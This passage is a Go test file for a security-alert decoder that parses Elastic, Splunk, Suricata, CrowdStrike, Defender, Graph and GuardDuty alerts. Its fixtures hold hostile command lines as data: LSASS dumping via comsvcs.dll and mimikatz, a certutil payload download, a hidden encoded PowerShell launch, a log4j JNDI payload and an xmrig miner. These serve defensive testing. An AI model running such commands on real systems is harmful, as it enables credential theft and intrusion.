package decode

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/socflow/socflow/alert"
)

// Hashes used across the fixtures.
const (
	psMD5        = "2f2d399f0ea8844859fe5514b304733b"
	psSHA1       = "0ecb32ead414fafc2e25e3b0bb0c2c35738274b6"
	psSHA256     = "86f51b17077aee2d7885528286a00aa632489cfee188cc99fbec881feb06dca7"
	docmSHA1     = "67b828546a3ce114da15a6938177dcffb8e5920f"
	docmSHA256   = "d2060b0abc834dd872068db3ce8ee88059acd70c344a648f55b0592b7bc793f7"
	mimiMD5      = "aa623a8a2a34729b095ffaf5b48d48b0"
	mimiSHA256   = "f2e589860108e1dedfae546aa4ffde86c653da28a6c2b1816432cafbf1512d36"
	xmrigMD5     = "98f261bfbad2c4a220b186cab7610e68"
	xmrigSHA256  = "77862efd76591a786f99d400c0f97633e2bfb2bbd18b09dd6bf33ebe49f40f07"
	dropSHA256   = "a934d8d273e44f15ccddbcd7180cf99d0fff719acff064f0b080299f9cd83e41"
	wordSHA1     = "16b1fb06f6479871665769acf255f486120af57d"
	wordSHA256   = "dc47f76a57c0f9a92de6592acce83e78dc19f2c777f692bc3ffce08f4de15aa5"
	passwdMD5    = "76a2173be6393254e72ffa4d6df1030a"
	passwdSHA1   = "30274c47903bd1bac7633bbf09743149ebab805f"
	passwdSHA2   = "0d6be69b264717f2dd33652e212b173104b4a647b7c11ae72e9885f11cd312fb"
	loaderMD5    = "7869d89b70d2fd40e1e172f17a77c364"
	loaderSHA2   = "88fa9fc376e2e7b90d921f3940c8e062aca70acfc660f3607d62b076f48925ce"
	svchSHA1     = "b70ff80481cedcf37226950072f30d3a02176501"
	svchSHA256   = "2304caf89b18c016c8bd4d3247cf38c88b5b609ca8740d703323aa5e458608b2"
	rundllMD5    = "85d717cf184677fc22905ef225732786"
	rundllSHA256 = "ac23ec25b93dc822308ef59db9dc34038be3ac2bdacdb4ed2d543740b9dc28e9"
)

// TestDecodeFixtures decodes every fixture by detection, and again with
// its format forced, and checks every field of every alert.
func TestDecodeFixtures(t *testing.T) {
	tests := []struct {
		file    string // under testdata/
		entry   int    // for NDJSON files
		alerts  []want
		skipped int
		skip    string
		errHas  []string // when set, decoding must fail with all of these
	}{
		// Elastic Security.
		{
			file: "elastic/process_alert_8x.json",
			alerts: []want{{
				ID: "8d5e1f6a3b0c4e7d9a2b6c1e0f3d5a7b9c1e3f5a7b9d1e3f5a7b9c1d3e5f7a9b", Source: "elastic",
				Rule: "Suspicious MS Office Child Process", Title: "Suspicious MS Office Child Process",
				Category: "malware", Severity: alert.SeverityHigh, Time: "2026-05-14T10:02:51.204Z",
				Techniques: []string{"T1566", "T1566.001", "T1059", "T1059.001"},
				Entities: []string{
					"host ws-042 id=9f2e6b1c4d8a4e2f9b7c1d3e5f7a9b0c ip=10.0.1.42,fe80::1c2b:3a4d:5e6f:7081 os=Windows 11 Pro 23H2",
					"user alice domain=CORP id=S-1-5-21-3623811015-3361044348-30300820-1013",
					"process powershell.exe pid=6120 cmd=powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA parent=WINWORD.EXE sha256=" + psSHA256,
					`file powershell.exe path=C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe md5=` + psMD5 + " sha1=" + psSHA1 + " sha256=" + psSHA256,
				},
				Labels: map[string]string{"risk_score": "73", "vendor_severity": "high", "original_time": "2026-05-14T10:02:47.118Z",
					"rule_id": "a624863f-a70d-417f-a7d2-7a404638d47f"},
				Desc: "parent process WINWORD.EXE, by alice on ws-042",
			}},
		},
		{
			file: "elastic/nested_network_alert.json",
			alerts: []want{{
				ID: "c0a8f0e2-4d1b-4f6e-8a3c-2b9d7e5f1a04", Source: "elastic",
				Rule: "Connection to Commonly Abused Web Services", Title: "Connection to Commonly Abused Web Services",
				Category: "network", Severity: alert.SeverityMedium, Time: "2026-05-14T09:12:33.87Z",
				Techniques: []string{"T1102"},
				Entities: []string{
					"host fs-03 id=4c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f ip=10.0.3.15 os=Windows Server 2022",
					"user svc-backup domain=CORP",
					"ip 10.0.3.15 source port=49822",
					"ip 198.51.100.66 destination port=443",
					"process rclone.exe pid=7712",
					"domain paste.example-cdn.net",
				},
			}},
		},
		{
			file: "elastic/search_hit.json",
			alerts: []want{{
				// No kibana.alert.uuid: the hit's _id is the alert's ID.
				ID: "3a9f5c1e7b2d4086a1c3e5f7091b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b", Source: "elastic",
				Rule: "Multiple Logon Failure Followed by Logon Success", Title: "Multiple Logon Failure Followed by Logon Success",
				Category: "identity", Severity: alert.SeverityMedium, Time: "2026-05-14T11:31:02.551Z",
				Techniques: []string{"T1110", "T1110.001"},
				Entities: []string{
					"host dc01 os=Windows Server 2019",
					"user bob domain=CORP email=bob@corp.example",
					"ip 203.0.113.50 source port=55012",
				},
			}},
		},
		{
			file: "elastic/search_response.json",
			alerts: []want{
				{
					ID: "b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2", Source: "elastic",
					Rule: "Potential Credential Access via LSASS Memory Dump", Title: "Potential Credential Access via LSASS Memory Dump",
					Category: "identity", Severity: alert.SeverityCritical, Time: "2026-05-14T12:00:05Z",
					Techniques: []string{"T1003", "T1003.001"},
					Entities: []string{
						"host ws-017",
						`process rundll32.exe pid=5120 cmd=rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 700 C:\Temp\l.dmp full parent=cmd.exe`,
					},
				},
				{
					ID: "c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3", Source: "elastic",
					Rule: "Unusual Network Connection via RunDLL32", Title: "Unusual Network Connection via RunDLL32",
					Severity: alert.SeverityLow, Time: "2026-05-14T12:01:44Z",
					Entities: []string{"host ws-017", "ip 192.0.2.200 destination port=8080"},
				},
			},
		},
		{
			file: "elastic/legacy_signal_7x.json",
			alerts: []want{{
				Source: "elastic", Rule: "Remote File Download via Certutil", Title: "Remote File Download via Certutil",
				Category: "network", Severity: alert.SeverityHigh, Time: "2023-02-11T22:40:16.412Z",
				Techniques: []string{"T1105"},
				Entities: []string{
					"host ws-009 ip=10.0.2.9",
					`file payload.exe path=C:\Users\Public\payload.exe sha256=` + dropSHA256,
					"url http://203.0.113.9/payload.exe",
				},
				Labels: map[string]string{"rule_uuid": "e1b0b5f0-aa8a-11ed-8a47-1b7e4f2d3c90", "workflow_status": "open"},
				Desc:   "Remote File Download via Certutil",
			}},
		},
		{
			// Risk score as a string with a null severity decides by
			// Elastic's bands; placeholders, nulls, a bad address, a zero
			// hash and a malformed hash are dropped; "\/" is a slash.
			file: "elastic/messy.json",
			alerts: []want{{
				ID: "f00d", Source: "elastic", Rule: "Ransomware - Mass File Rename", Title: "Ransomware - Mass File Rename",
				Category: "malware", Severity: alert.SeverityCritical, Time: "2026-05-14T13:14:15Z",
				Techniques: []string{"T1486"},
				Entities: []string{
					"host WS-088 ip=10.0.8.88",
					"file q3.xlsx.locked path=C:/Users/carol/Documents/q3.xlsx.locked",
				},
				Labels: map[string]string{"risk_score": "76"},
			}},
		},
		{
			file: "elastic/minimal.json",
			alerts: []want{{
				Source: "elastic", Rule: "Test rule", Title: "Test rule", Severity: alert.SeverityMedium,
				Time: "2026-05-14T08:00:00Z", Entities: []string{"host lab-01"},
			}},
		},
		{file: "elastic/error_no_rule.json", errHas: []string{"elastic: kibana.alert.rule.name: missing"}},
		{file: "elastic/error_no_entities.json", errHas: []string{"elastic: host.name", "none present", `source.ip "10.0.0.999" is not an IP address`}},

		// Splunk webhook.
		{
			file: "splunk/webhook_brute_force.json",
			alerts: []want{{
				ID: "scheduler__admin__search__RMD5a1b2c3d4e5f60718_at_1778750400_4821", Source: "splunk",
				Rule: "Brute Force Access Behavior Detected", Title: "Brute Force Access Behavior Detected",
				Category: "identity", Severity: alert.SeverityHigh, Time: "2026-05-14T09:19:45Z",
				Techniques: []string{"T1110.003"},
				Entities:   []string{"host vpn-gw-01", "user bob", "ip 203.0.113.50 source"},
				Labels:     map[string]string{"app": "SplunkEnterpriseSecuritySuite", "owner": "admin", "vendor_severity": "high"},
			}},
		},
		{
			file: "splunk/webhook_cim_malware.json",
			alerts: []want{{
				ID: "rt_scheduler__admin__DA-ESS-EndpointProtection__RMD5b7e1_at_1778747000_77.22", Source: "splunk",
				Rule: "Endpoint - High Or Critical Priority Host With Malware - Rule", Title: "Trojan:Win32/Emotet.RPK!MTB",
				Category: "malware", Severity: alert.SeverityCritical, Time: "2026-05-14T08:23:11Z",
				Entities: []string{
					"host ws-042",
					"user alice domain=CORP",
					"ip 10.0.1.42 destination",
					`file invoice.docm path=C:\Users\alice\Downloads\invoice.docm sha256=` + docmSHA256,
				},
				Labels: map[string]string{
					"signature_id": "2147725377", "action": "blocked",
					"results_link": "https://splunk.corp.example:8000/app/DA-ESS-EndpointProtection/@go?sid=rt_scheduler__admin__DA-ESS-EndpointProtection__RMD5b7e1_at_1778747000_77.22",
				},
			}},
		},
		{
			// An aggregating search: no _time, so the sid's dispatch time;
			// a multi-value dest_ip; "unknown" is no user.
			file: "splunk/webhook_stats_no_time.json",
			alerts: []want{{
				ID: "scheduler__svc_splunk__search__RMD5c0ffee00_at_1778752800_991", Source: "splunk",
				Rule: "Outbound data transfer over 5GB", Title: "Outbound data transfer over 5GB",
				Category: "exfiltration", Severity: alert.SeverityMedium, Time: "2026-05-14T10:00:00Z",
				Entities: []string{
					"ip 198.51.100.66 destination port=443",
					"ip 198.51.100.67 destination port=443",
					"ip 10.0.3.15 source",
				},
			}},
		},
		{
			file: "splunk/webhook_process.json",
			alerts: []want{{
				ID: "1778753001.1234", Source: "splunk", Rule: "Suspicious certutil download", Title: "Suspicious certutil download",
				Severity: alert.SeverityMedium, Time: "2026-05-14T10:03:21.372Z",
				Entities: []string{
					"host WS-009",
					"user dave domain=WS-009",
					`process certutil.exe pid=4048 cmd=certutil.exe -urlcache -split -f http://203.0.113.9/payload.exe C:\Users\Public\payload.exe parent=cmd.exe`,
					"url http://203.0.113.9/payload.exe",
				},
				Labels: map[string]string{"vendor_severity": "4"},
			}},
		},
		{
			file: "splunk/minimal.json",
			alerts: []want{{
				ID: "adhoc", Source: "splunk", Rule: "Test alert", Title: "Test alert", Severity: alert.SeverityMedium,
				Time: "2026-05-14T09:13:20Z", Entities: []string{"host lab-01"},
			}},
		},
		{file: "splunk/error_no_search_name.json", errHas: []string{"splunk: search_name: missing"}},
		{file: "splunk/error_no_time.json", errHas: []string{"splunk: result._time: missing", "_at_<epoch>"}},
		{file: "splunk/error_bad_severity.json", errHas: []string{`splunk: result.severity: unknown value "spicy"`}},

		// Suricata EVE.
		{
			file: "suricata/alert_http.json",
			alerts: []want{{
				Source: "suricata", Rule: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
				Title:    "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
				Category: "network", Severity: alert.SeverityHigh, Time: "2026-05-14T09:12:31.448312Z",
				Techniques: []string{"T1190"},
				Entities: []string{
					"ip 203.0.113.7 source port=51734",
					"ip 10.0.5.20 destination port=80",
					"domain shop.corp.example",
					"url http://shop.corp.example/search?q=${jndi:ldap://198.51.100.23:1389/a}",
				},
				Labels: map[string]string{
					"signature_id": "2034647", "flow_id": "1844674407370955161", "sensor": "sensor-dmz-01",
					"proto": "TCP", "app_proto": "http", "action": "allowed", "vendor_severity": "1",
					"community_id": "1:Gq1dWm6sKx8b8n8fG2zLrZ8Yl0Q=",
				},
				Desc: "Attempted Administrator Privilege Gain",
			}},
		},
		{
			// Severity 1 with ET's signature_severity Critical; a +0200
			// offset; the SNI's root dot dropped.
			file: "suricata/alert_tls_critical.json",
			alerts: []want{{
				Source: "suricata", Rule: "ET MALWARE Cobalt Strike Beacon Observed (TLS JA3)",
				Title:    "ET MALWARE Cobalt Strike Beacon Observed (TLS JA3)",
				Category: "network", Severity: alert.SeverityCritical, Time: "2026-05-14T08:44:02.019774Z",
				Techniques: []string{"T1071.001", "T1573"},
				Entities: []string{
					"ip 10.0.1.42 source port=50811",
					"ip 198.51.100.66 destination port=443",
					"domain cdn-update.example.net",
				},
			}},
		},
		{
			// Numbers as strings, IPv6.
			file: "suricata/alert_dns_ipv6.json",
			alerts: []want{{
				Source: "suricata", Rule: "ET INFO Observed DNS Query to .onion proxy Domain",
				Title:    "ET INFO Observed DNS Query to .onion proxy Domain",
				Category: "network", Severity: alert.SeverityMedium, Time: "2026-05-14T11:00:00.000001Z",
				Entities: []string{
					"ip 2001:db8:10::42 source port=53001",
					"ip 2001:db8:53::1 destination port=53",
					"domain abcdefghijklmnop.onion.example",
				},
				Labels: map[string]string{"signature_id": "2027863", "flow_id": "4422"},
			}},
		},
		{file: "suricata/eve.json", entry: 0, skipped: 1, skip: "event_type stats"},
		{file: "suricata/eve.json", entry: 1, skipped: 1, skip: "event_type flow"},
		{file: "suricata/eve.json", entry: 2, skipped: 1, skip: "event_type dns"},
		{
			file: "suricata/eve.json", entry: 3,
			alerts: []want{{
				Source: "suricata", Rule: "ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Response",
				Title:    "ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Response",
				Category: "network", Severity: alert.SeverityHigh, Time: "2026-05-14T09:12:31.448312Z",
				Entities: []string{"ip 203.0.113.7 source port=51734", "ip 10.0.5.20 destination port=445"},
			}},
		},
		{file: "suricata/eve.json", entry: 4, skipped: 1, skip: "event_type http"},
		{
			file: "suricata/eve.json", entry: 5,
			alerts: []want{{
				Source: "suricata", Rule: "ET SCAN Potential SSH Scan OUTBOUND", Title: "ET SCAN Potential SSH Scan OUTBOUND",
				Category: "network", Severity: alert.SeverityMedium, Time: "2026-05-14T09:12:33Z",
				Entities: []string{"ip 10.0.2.77 source port=44321", "ip 192.0.2.99 destination port=22"},
				Labels:   map[string]string{"action": "blocked"},
			}},
		},
		{file: "suricata/eve.json", entry: 6, skipped: 1, skip: "event_type fileinfo"},
		{
			// No severity: Suricata's default priority 3, low.
			file: "suricata/minimal.json",
			alerts: []want{{
				Source: "suricata", Rule: "GPL ICMP_INFO PING *NIX", Title: "GPL ICMP_INFO PING *NIX",
				Category: "network", Severity: alert.SeverityLow, Time: "2026-05-14T12:00:00Z",
				Entities: []string{"ip 192.0.2.1 source", "ip 192.0.2.2 destination"},
			}},
		},
		{file: "suricata/error_no_signature.json", errHas: []string{"suricata: alert.signature: missing"}},
		{file: "suricata/error_bad_addresses.json", errHas: []string{"suricata: src_ip, dest_ip: none present", `src_ip "192.0.2.300" is not an IP address`}},

		// CrowdStrike Falcon.
		{
			file: "falcon/detection_summary.json",
			alerts: []want{{
				ID: "ldt:4a0e6f8b2c1d4e5f9a7b3c2d1e0f9a8b:81023487112", Source: "crowdstrike",
				Rule: "Credential Theft", Title: "Credential Theft", Category: "identity",
				Severity: alert.SeverityCritical, Time: "2026-05-14T10:02:47Z",
				Entities: []string{
					"host WS-042 id=4a0e6f8b2c1d4e5f9a7b3c2d1e0f9a8b ip=10.0.1.42",
					"user alice",
					`process mimikatz.exe cmd="C:\Users\alice\AppData\Local\Temp\mimikatz.exe" privilege::debug sekurlsa::logonpasswords exit parent=cmd.exe sha256=` + mimiSHA256,
					// The all-zero SHA1String is Falcon's "no hash".
					`file mimikatz.exe path=\Device\HarddiskVolume3\Users\alice\AppData\Local\Temp md5=` + mimiMD5 + " sha256=" + mimiSHA256,
				},
				Labels: map[string]string{
					"tactic": "Credential Access", "technique": "OS Credential Dumping", "objective": "Gain Access",
					"disposition": "Prevention, process killed.", "machine_domain": "CORP", "falcon_process_id": "81023487112",
					"falcon_link":     "https://falcon.crowdstrike.com/activity/detections/detail/4a0e6f8b2c1d4e5f9a7b3c2d1e0f9a8b/81023487112",
					"vendor_severity": "Critical",
				},
				Desc: "LSASS memory",
			}},
		},
		{
			file: "falcon/epp_detection_summary.json",
			alerts: []want{{
				ID:     "0123456789abcdef0123456789abcdef:ind:77c1d0e2a3b4c5d6e7f8091a2b3c4d5e:99887766554433-10304-1234567",
				Source: "crowdstrike", Rule: "XmrigMiner", Title: "XmrigMiner", Category: "malware",
				Severity: alert.SeverityHigh, Time: "2026-05-14T10:36:41.123Z",
				Techniques: []string{"T1496"},
				Entities: []string{
					"host srv-web-02 id=77c1d0e2a3b4c5d6e7f8091a2b3c4d5e ip=10.0.6.12 os=Linux",
					"user svc_web domain=CORP",
					"ip 198.51.100.77 port=4444",
					"process xmrig cmd=/tmp/.cache/xmrig -o pool.minexmr.example:4444 -u 4Abc parent=bash sha256=" + xmrigSHA256,
					"file xmrig path=/tmp/.cache md5=" + xmrigMD5 + " sha256=" + xmrigSHA256,
					"domain pool.minexmr.example",
				},
			}},
		},
		{
			// The event type as the issue and some CrowdStrike pages spell
			// it; every field containment needs, from its documented name.
			file: "falcon/epp_detection_summary_caps.json",
			alerts: []want{{
				ID:     "fedcba9876543210fedcba9876543210:ind:5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b:123456789012-5702-7654321",
				Source: "crowdstrike", Rule: "CredentialDumpingViaRundll32", Title: "CredentialDumpingViaRundll32",
				Category: "identity", Severity: alert.SeverityCritical, Time: "2026-05-14T12:00:00.456Z",
				Techniques: []string{"T1003.001"},
				Entities: []string{
					"host FIN-LT-0419 id=5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b ip=10.0.4.19 os=Windows",
					"user dana domain=CORP",
					`process rundll32.exe cmd=rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 708 C:\Users\Public\l.dmp full parent=cmd.exe sha256=` + rundllSHA256,
					`file rundll32.exe path=\Device\HarddiskVolume3\Windows\System32 md5=` + rundllMD5 + " sha256=" + rundllSHA256,
				},
				Labels: map[string]string{
					"tactic": "Credential Access", "tactic_id": "TA0006", "technique": "OS Credential Dumping",
					"technique_id": "T1003.001", "pattern_id": "5702", "objective": "Gain Access",
					"vendor_severity": "Critical", "falcon_process_id": "123456789012",
					"customer_id": "fedcba9876543210fedcba9876543210", "stream_offset": "2031337",
				},
				Desc: "MiniDump against the LSASS",
			}},
		},
		{
			// A sensor that reported no hostname: the agent ID names the
			// host, so the incident groups by it and the EDR can contain it.
			file: "falcon/epp_agent_id_only.json",
			alerts: []want{{
				ID:     "fedcba9876543210fedcba9876543210:ind:9a8b7c6d5e4f30211203f4e5d6c7b8a9:223344556677-10304-1111111",
				Source: "crowdstrike", Rule: "XmrigMiner", Title: "XmrigMiner", Category: "malware",
				Severity: alert.SeverityHigh, Time: "2026-05-14T12:01:00Z",
				Techniques: []string{"T1496"},
				Entities:   []string{"host 9a8b7c6d5e4f30211203f4e5d6c7b8a9 id=9a8b7c6d5e4f30211203f4e5d6c7b8a9"},
				Labels:     map[string]string{"tactic_id": "TA0040", "pattern_id": "10304"},
			}},
		},
		{file: "falcon/stream.json", entry: 0, skipped: 1, skip: "eventType AuthActivityAuditEvent"},
		{file: "falcon/stream.json", entry: 1, skipped: 1, skip: "eventType UserActivityAuditEvent"},
		{
			file: "falcon/stream.json", entry: 2,
			alerts: []want{{
				ID: "ldt:11aa22bb33cc44dd55ee66ff77008899:4242", Source: "crowdstrike",
				Rule: "Suspicious Activity", Title: "Suspicious Activity", Category: "malware",
				Severity: alert.SeverityMedium, Time: "2026-05-14T09:50:00Z",
				Entities: []string{
					"host WS-017 id=11aa22bb33cc44dd55ee66ff77008899 ip=10.0.1.17",
					"user bob domain=CORP",
					`process powershell.exe cmd=powershell -ep bypass -f C:\Users\bob\run.ps1 parent=explorer.exe sha256=` + psSHA256,
					`file powershell.exe path=\Device\HarddiskVolume2\Windows\System32\WindowsPowerShell\v1.0 sha256=` + psSHA256,
				},
			}},
		},
		{file: "falcon/stream.json", entry: 3, skipped: 1, skip: "eventType IncidentSummaryEvent"},
		{file: "falcon/stream.json", entry: 4, skipped: 1, skip: "eventType RemoteResponseSessionStartEvent"},
		{
			// No eventCreationTime: ProcessStartTime as a string; null
			// Severity falls back to SeverityName; SYSTEM is no user; "N/A"
			// is no file name; two addresses in one LocalIP.
			file: "falcon/messy.json",
			alerts: []want{{
				Source: "crowdstrike", Rule: "Malicious Document", Title: "Malicious Document", Category: "malware",
				Severity: alert.SeverityLow, Time: "2026-05-14T10:53:20Z",
				Entities: []string{
					"host lab-win-03 ip=10.0.9.3,10.0.9.4",
					"file  sha1=4fd9f69cdece7b12a01303893234ea7a05e5be49",
				},
				Labels: map[string]string{"stream_offset": "1447999", "tactic": "Machine Learning"},
			}},
		},
		{file: "falcon/error_no_detect_name.json", errHas: []string{"falcon: event.DetectName: missing"}},
		{file: "falcon/error_no_time.json", errHas: []string{"falcon: metadata.eventCreationTime: missing"}},

		// Microsoft Defender for Endpoint.
		{
			file: "defender/alert_with_evidence.json",
			alerts: []want{{
				ID: "da638512345678901234_-1483219265", Source: "defender",
				Rule: "'Emotet' malware was detected", Title: "'Emotet' malware was detected",
				Category: "malware", Severity: alert.SeverityHigh, Time: "2026-05-14T08:23:11.44Z",
				Techniques: []string{"T1566.001", "T1204.002"},
				Entities: []string{
					"host ws-042.corp.example id=3b9f0c2e7a61d4b85e0f9a7c2d1b3e4f5a6b7c8d",
					"user alice domain=CORP email=alice@corp.example id=5f3a8c21-0d4b-4e6f-9a1b-2c3d4e5f6a7b",
					"ip 198.51.100.66",
					`process WINWORD.EXE pid=4410 cmd="WINWORD.EXE" /n "C:\Users\alice\Downloads\invoice.docm" /o "" parent=explorer.exe sha256=` + wordSHA256,
					`file invoice.docm path=C:\Users\alice\Downloads sha1=` + docmSHA1 + " sha256=" + docmSHA256,
					`file WINWORD.EXE path=C:\Program Files\Microsoft Office\root\Office16 sha1=` + wordSHA1 + " sha256=" + wordSHA256,
					"domain invoices.example-billing.net",
					"url https://invoices.example-billing.net/dl/invoice.docm",
				},
				Labels: map[string]string{"incident_id": "4187", "detection_source": "WindowsDefenderAv", "threat_family": "Emotet",
					"vendor_category": "Malware", "vendor_severity": "High"},
				Desc: "Malware and unwanted software",
			}},
		},
		{
			file: "defender/alerts_list.json",
			alerts: []want{
				{
					ID: "da638512345600000001_1", Source: "defender",
					Rule: "Suspicious access to LSASS service", Title: "Suspicious access to LSASS service",
					Category: "identity", Severity: alert.SeverityMedium, Time: "2026-05-14T12:00:05Z",
					Techniques: []string{"T1003.001"},
					Entities:   []string{"host ws-017.corp.example id=aa11bb22cc33dd44ee55ff6677889900aabbccdd", "user bob domain=CORP"},
				},
				{
					// No firstEventTime: creation time. Discovery names no
					// class: an endpoint alert is a host compromise.
					ID: "da638512345600000002_2", Source: "defender",
					Rule: "Custom detection: net.exe group enumeration", Title: "Custom detection: net.exe group enumeration",
					Category: "malware", Severity: alert.SeverityInfo, Time: "2026-05-14T12:05:00Z",
					Entities: []string{"host ws-017.corp.example id=aa11bb22cc33dd44ee55ff6677889900aabbccdd"},
				},
			},
		},
		{file: "defender/alerts_list_empty.json"},
		{
			// UnSpecified severity; nulls everywhere; an NT AUTHORITY account
			// and a bad address dropped; a PID as a string.
			file: "defender/messy.json",
			alerts: []want{{
				ID: "da638512345699999999_9", Source: "defender",
				Rule: "Suspicious connection blocked by network protection", Title: "Suspicious connection blocked by network protection",
				Category: "malware", Severity: alert.SeverityMedium, Time: "2026-05-14T13:00:00Z",
				Entities: []string{
					"host bb22cc33dd44ee55ff6677889900aabbccddeeff id=bb22cc33dd44ee55ff6677889900aabbccddeeff",
					"ip 203.0.113.200",
					"process msedge.exe pid=8812",
				},
				Labels: map[string]string{"vendor_severity": "UnSpecified"},
			}},
		},
		{
			// machineId without computerDnsName: the machine ID names the
			// host, so the incident groups by the machine, not the alert.
			file: "defender/machine_id_only.json",
			alerts: []want{{
				ID: "da638512345611112222_3", Source: "defender",
				Rule: "Suspicious process injection observed", Title: "Suspicious process injection observed",
				Category: "malware", Severity: alert.SeverityHigh, Time: "2026-05-14T13:59:58Z",
				Techniques: []string{"T1055"},
				Entities:   []string{"host cc33dd44ee55ff6677889900aabbccddeeff0011 id=cc33dd44ee55ff6677889900aabbccddeeff0011"},
				Labels: map[string]string{"incident_id": "4301", "detection_source": "WindowsDefenderAtp",
					"vendor_category": "DefenseEvasion", "vendor_severity": "High", "status": "New"},
				Desc: "injected code",
			}},
		},
		{file: "defender/error_no_title.json", errHas: []string{"defender: title: missing"}},
		{
			// One bad element does not lose the page.
			file:   "defender/error_list_one_bad.json",
			errHas: []string{`defender: value[1].severity: unknown value "Catastrophic"`},
			alerts: []want{{
				ID: "a1", Source: "defender", Rule: "ok alert", Title: "ok alert", Category: "malware",
				Severity: alert.SeverityLow, Time: "2026-05-14T12:05:00Z", Entities: []string{"host ws-1 id=m1"},
			}},
		},

		// Microsoft Graph alerts_v2.
		{
			file: "graph/alert_endpoint.json",
			alerts: []want{{
				ID: "da638512399990001111_1702183321", Source: "graph",
				Rule:     "Suspicious PowerShell download or encoded command execution",
				Title:    "Suspicious PowerShell download or encoded command execution",
				Category: "malware", Severity: alert.SeverityHigh, Time: "2026-05-14T10:02:47.118Z",
				Techniques: []string{"T1059.001", "T1105"},
				Entities: []string{
					"host ws-042.corp.example id=3b9f0c2e7a61d4b85e0f9a7c2d1b3e4f5a6b7c8d ip=10.0.1.42,fe80::1c2b:3a4d:5e6f:7081,127.0.0.1 os=Windows11",
					"user alice domain=CORP email=alice@corp.example id=5f3a8c21-0d4b-4e6f-9a1b-2c3d4e5f6a7b",
					"process powershell.exe pid=6120 cmd=powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA parent=WINWORD.EXE sha256=" + psSHA256,
					`file powershell.exe path=C:\Windows\System32\WindowsPowerShell\v1.0 sha1=` + psSHA1 + " sha256=" + psSHA256,
					"url http://198.51.100.66:8080/stage2.ps1",
				},
				Labels: map[string]string{"incident_id": "4200", "service_source": "microsoftDefenderForEndpoint", "vendor_category": "Execution"},
			}},
		},
		{
			file: "graph/alert_identity.json",
			alerts: []want{{
				ID: "aad1234567890abcdef", Source: "graph", Rule: "Unfamiliar sign-in properties", Title: "Unfamiliar sign-in properties",
				Category: "identity", Severity: alert.SeverityMedium, Time: "2026-05-14T11:40:02Z",
				Techniques: []string{"T1078.004"},
				Entities: []string{
					"user bob domain=corp.example email=bob@corp.example id=8c7d6e5f-4a3b-2c1d-0e9f-8a7b6c5d4e3f",
					"ip 203.0.113.50 source",
				},
			}},
		},
		{
			file: "graph/alerts_page.json",
			alerts: []want{
				{
					ID: "da1", Source: "graph", Rule: "Suspicious file dropped", Title: "Suspicious file dropped",
					Category: "malware", Severity: alert.SeverityLow, Time: "2026-05-14T12:10:00Z",
					Techniques: []string{"T1564.001"},
					Entities: []string{
						"host srv-app-01 id=cc33dd44ee55ff6677889900aabbccddeeff0011",
						`file svch0st.exe path=C:\ProgramData\svch0st sha1=` + svchSHA1 + " sha256=" + svchSHA256,
					},
				},
				{
					// The recipient named by e-mail and the mailbox's account
					// are one user.
					ID: "da2", Source: "graph", Rule: "Email messages containing malicious URL removed after delivery",
					Title:    "Email messages containing malicious URL removed after delivery",
					Severity: alert.SeverityInfo, Time: "2026-05-14T12:11:00Z",
					Entities: []string{"user carol domain=corp.example email=carol@corp.example", "ip 192.0.2.25 source"},
				},
			},
		},
		{file: "graph/alerts_page_empty.json"},
		{file: "graph/error_no_title.json", errHas: []string{"graph: title: missing"}},
		{file: "graph/error_no_evidence.json", errHas: []string{"graph: evidence: none present"}},

		// AWS GuardDuty.
		{
			file: "guardduty/ssh_bruteforce_finding.json",
			alerts: []want{{
				ID: "a2c7d9e1f3b54c6d8e0f1a2b3c4d5e6f", Source: "guardduty", Rule: "UnauthorizedAccess:EC2/SSHBruteForce",
				Title:    "203.0.113.50 is performing SSH brute force attacks against i-0abc1234def567890.",
				Category: "identity", Severity: alert.SeverityLow, Time: "2026-05-14T08:50:02Z",
				Entities: []string{
					"host bastion-prod-1 id=i-0abc1234def567890 ip=10.20.1.15,52.16.0.15",
					"ip 203.0.113.50 source port=42188",
					"ip 10.20.1.15 destination port=22",
				},
				Labels: map[string]string{"account_id": "123456789012", "region": "eu-west-1", "count": "37",
					"last_seen": "2026-05-14T09:19:40.000Z", "vendor_severity": "2"},
				Desc: "guessing the SSH password",
			}},
		},
		{
			file: "guardduty/eventbridge_c2_outbound.json",
			alerts: []want{{
				ID: "b4e6f8a0c2d44e6f8a0b2c4d6e8f0a1b", Source: "guardduty", Rule: "Backdoor:EC2/C&CActivity.B",
				Title:    "Command and Control server IP queried by EC2 instance i-0fedcba9876543210.",
				Category: "malware", Severity: alert.SeverityHigh, Time: "2026-05-14T10:40:00Z",
				Entities: []string{
					"host i-0fedcba9876543210 id=i-0fedcba9876543210 ip=10.30.4.21,10.30.4.22 os=windows",
					"ip 10.30.4.21 source port=50811",
					"ip 198.51.100.66 destination port=443",
				},
				Labels: map[string]string{"threat_list": "ProofPoint"},
			}},
		},
		{
			// Severity as a string; the API caller is the source.
			file: "guardduty/iam_api_call.json",
			alerts: []want{{
				ID: "c6a8b0d2e4f64a8c0e2a4c6e8a0c2e4f", Source: "guardduty",
				Rule:     "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
				Title:    "Credentials for instance role bastion-role used from external IP address.",
				Category: "identity", Severity: alert.SeverityHigh, Time: "2026-05-14T11:00:00Z",
				Entities: []string{"user bastion-role id=AROAEXAMPLEROLEID:i-0abc1234def567890", "ip 192.0.2.77 source"},
